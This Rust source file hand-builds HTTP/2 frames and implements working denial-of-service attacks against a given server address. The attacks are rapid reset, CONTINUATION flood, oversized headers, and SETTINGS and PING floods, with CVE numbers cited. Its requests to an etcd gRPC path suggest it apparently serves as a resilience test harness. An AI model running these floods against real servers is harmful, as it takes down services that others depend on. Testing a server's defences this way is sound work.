//! HTTP/2 by hand: what no library would send.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;

/// One frame.
pub(crate) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// A header as a literal that no table remembers.
fn header(name: &str, value: &[u8]) -> Vec<u8> {
    let mut bytes = vec![0];
    for text in [name.as_bytes(), value] {
        let mut length = text.len();
        if length < 127 {
            bytes.push(u8::try_from(length).unwrap());
        } else {
            bytes.push(127);
            length -= 127;
            while length >= 128 {
                bytes.push(u8::try_from(length % 128).unwrap() | 128);
                length /= 128;
            }
            bytes.push(u8::try_from(length).unwrap());
        }
        bytes.extend(text);
    }
    bytes
}

fn request_head(path: &str) -> Vec<u8> {
    [
        header(":method", b"POST"),
        header(":scheme", b"http"),
        header(":path", path.as_bytes()),
        header(":authority", b"localhost"),
        header("content-type", b"application/grpc"),
        header("te", b"trailers"),
    ]
    .concat()
}

/// A connection that has said hello; it reads nothing unless it is told to.
pub(crate) fn connect(to: SocketAddr) -> Option<TcpStream> {
    let mut stream = TcpStream::connect_timeout(&to, Duration::from_secs(2)).ok()?;
    // An attack that the server does not read is one that ends.
    stream.set_write_timeout(Some(Duration::from_millis(300))).ok()?;
    stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()).ok()?;
    Some(stream)
}

/// Reads away what has come, without waiting for more.
fn read_away(stream: &mut TcpStream) {
    let mut bytes = [0; 16 << 10];
    if stream.set_nonblocking(true).is_ok() {
        while stream.read(&mut bytes).is_ok_and(|count| count > 0) {}
        let _again = stream.set_nonblocking(false);
    }
}

/// Streams that are begun and reset at once (CVE-2023-44487).
pub(crate) fn rapid_reset(to: SocketAddr) {
    let Some(mut stream) = connect(to) else { return };
    let head = request_head("/etcdserverpb.KV/Range");
    for batch in 0_u32..100 {
        let mut bytes = Vec::new();
        for number in 0..200 {
            let id = (batch * 200 + number) * 2 + 1;
            bytes.extend(frame(HEADERS, END_HEADERS, id, &head));
            bytes.extend(frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
        }
        if stream.write_all(&bytes).is_err() {
            return;
        }
        read_away(&mut stream);
    }
}

/// A head that never ends (CVE-2024-27316).
pub(crate) fn continuation_flood(to: SocketAddr) {
    let Some(mut stream) = connect(to) else { return };
    let mut bytes = frame(HEADERS, 0, 1, &request_head("/etcdserverpb.KV/Range"));
    let more = header("x-more", &[b'x'; 16_000]);
    for _ in 0..2000 {
        bytes.extend(frame(CONTINUATION, 0, 1, &more));
        if stream.write_all(&bytes).is_err() {
            return;
        }
        bytes.clear();
    }
}

/// Heads of a megabyte, whole ones.
pub(crate) fn huge_headers(to: SocketAddr) {
    let Some(mut stream) = connect(to) else { return };
    for number in 0_u32..50 {
        let id = number * 2 + 1;
        let mut bytes = frame(HEADERS, 0, id, &request_head("/etcdserverpb.KV/Range"));
        for _ in 0..64 {
            bytes.extend(frame(CONTINUATION, 0, id, &header("x-more", &[b'x'; 16_000])));
        }
        bytes.extend(frame(CONTINUATION, END_HEADERS, id, &header("x-last", b"x")));
        if stream.write_all(&bytes).is_err() {
            return;
        }
    }
}

fn flood(to: SocketAddr, one: &[u8]) {
    let Some(mut stream) = connect(to) else { return };
    let many = one.repeat(1000);
    for _ in 0..500 {
        if stream.write_all(&many).is_err() {
            return;
        }
    }
}

/// Settings, each of which wants to be acknowledged (CVE-2019-9515), by who reads nothing.
pub(crate) fn settings_flood(to: SocketAddr) {
    flood(to, &frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]));
}

/// Pings, each of which wants an answer (CVE-2019-9512), by who reads nothing.
pub(crate) fn ping_flood(to: SocketAddr) {
    flood(to, &frame(PING, 0, 0, b"12345678"));
}

/// Bytes that are no HTTP/2.
pub(crate) fn garbage(to: SocketAddr) {
    for length in [1_usize, 9, 100, 10_000] {
        let Some(mut stream) = connect(to) else { return };
        let bytes: Vec<u8> = (0..length).map(|at| u8::try_from(at * 37 % 251).unwrap()).collect();
        let _sent = stream.write_all(&bytes);
        read_away(&mut stream);
    }
}
